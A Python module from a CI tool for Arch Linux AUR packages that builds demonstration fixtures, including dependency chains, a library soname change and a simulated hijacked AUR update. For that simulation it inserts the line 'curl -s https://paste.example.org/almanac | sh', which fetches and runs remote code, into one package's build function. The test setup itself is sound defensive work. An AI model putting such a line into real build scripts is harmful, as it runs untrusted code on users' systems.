"""The packages that are built, and how they get into a package repository."""

from __future__ import annotations

import shlex
import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Self

from caur_ci.errors import InputError

if TYPE_CHECKING:
    from collections.abc import Iterable

# An installed caur-ci brings them along; a checkout has them among its tests.
_INSTALLED = Path(__file__).with_name("fixtures")
_CHECKED_OUT = Path(__file__).parents[2] / "tests" / "fixtures"

FIRST_OF_CHAIN = "libmeasure"
LAST_OF_CHAIN = "recipe-scale"
FAILS = "fails-on-purpose"
RETIRED = "sundial"
FROM_AUR = "measure"  # in the middle of the chain
# The version that appears in the AUR while the demonstration runs, in place of the fixture's.
_VERSION, NEW_VERSION = "2.0.1", "2.1.0"

# Whose update in the AUR is an attack, in the new version that it says it is.
HIJACKED = "almanac"
_ATTACKED_VERSION = "1.1"
_FUNCTION = "package() {\n"
_ATTACK = f"{_FUNCTION}  curl -s https://paste.example.org/almanac | sh\n"

# A library that gets another soname in its next version, and a program that needs it; another one
# needs both, so that the two are rebuilt together.
LIBRARY, NEEDS_LIBRARY = "libtide", "tide-today"
REBUILT = ("tide-clock", NEEDS_LIBRARY)
_LIBRARY_VERSION = "2.0"
_LIBRARY_ROOT = "_root=''"

# What the -git package names as its source; the repository is made when it is needed.
_UPSTREAM_URL = "file:///srv/upstream/plumbline.git"
_NAMES_UPSTREAM = ("PKGBUILD", ".SRCINFO")


@dataclass(frozen=True, slots=True)
class Fixtures:
    """The folders `pkgbuilds` and `upstream` below `folder`."""

    folder: Path

    @classmethod
    def find(cls) -> Self:
        """Return the fixtures of this installation. Raises InputError where there are none."""
        for folder in (_INSTALLED, _CHECKED_OUT):
            if (folder / "pkgbuilds").is_dir():
                return cls(folder)
        raise InputError(
            "the packages of the demonstration are not there",
            hint="Install caur-ci from a release, or run it in a checkout of its repository.",
        )

    @property
    def pkgbuilds(self) -> Path:
        """The folder with one folder for each package."""
        return self.folder / "pkgbuilds"

    @property
    def upstream(self) -> Path:
        """The files of the repository that the -git package follows."""
        return self.folder / "upstream" / "plumbline"

    @property
    def names(self) -> tuple[str, ...]:
        """Every pkgbase, sorted."""
        return tuple(sorted(path.name for path in self.pkgbuilds.iterdir() if path.is_dir()))

    def place_update(self, into: Path) -> Path:
        """Copy the package whose update is harmless, in its new version; return its folder."""
        target = into / FROM_AUR
        shutil.copytree(self.pkgbuilds / FROM_AUR, target)
        for file in _NAMES_UPSTREAM:
            _replace_in(target / file, _VERSION, NEW_VERSION)
        return target

    def place_attack(self, into: Path) -> Path:
        """Copy the package whose update is an attack, as that is; return its folder."""
        target = self._with_pkgver(HIJACKED, _ATTACKED_VERSION, into)
        _replace_in(target / "PKGBUILD", _FUNCTION, _ATTACK)
        return target

    def place_moved_library(self, into: Path) -> Path:
        """Copy the library with its next soname over what is there; return its folder."""
        return self._with_pkgver(LIBRARY, _LIBRARY_VERSION, into)

    def _with_pkgver(self, name: str, version: str, into: Path) -> Path:
        """Copy a package of version 1.0 as another version."""
        target = into / name
        shutil.copytree(self.pkgbuilds / name, target, dirs_exist_ok=True)
        _replace_in(target / "PKGBUILD", "pkgver=1.0", f"pkgver={version}")
        _replace_in(target / ".SRCINFO", "pkgver = 1.0", f"pkgver = {version}")
        return target

    def place(
        self, names: Iterable[str], into: Path, *, upstream_url: str, library_root: str = ""
    ) -> None:
        """Copy package folders; the source of the -git package becomes `upstream_url`.

        `library_root` is below which folder the library is installed.
        """
        for name in names:
            target = into / name
            shutil.copytree(self.pkgbuilds / name, target)
            for file in _NAMES_UPSTREAM:
                _replace_in(target / file, _UPSTREAM_URL, upstream_url)
            if name in REBUILT:
                chosen = f"_root={shlex.quote(library_root)}"
                _replace_in(target / "PKGBUILD", _LIBRARY_ROOT, chosen)
            if name in {FROM_AUR, HIJACKED}:
                (target / ".CI").mkdir()
                config = target / ".CI" / "config"
                config.write_text("CI_PKGBUILD_SOURCE=aur\n", encoding="utf-8")


def _replace_in(path: Path, old: str, new: str) -> None:
    path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")
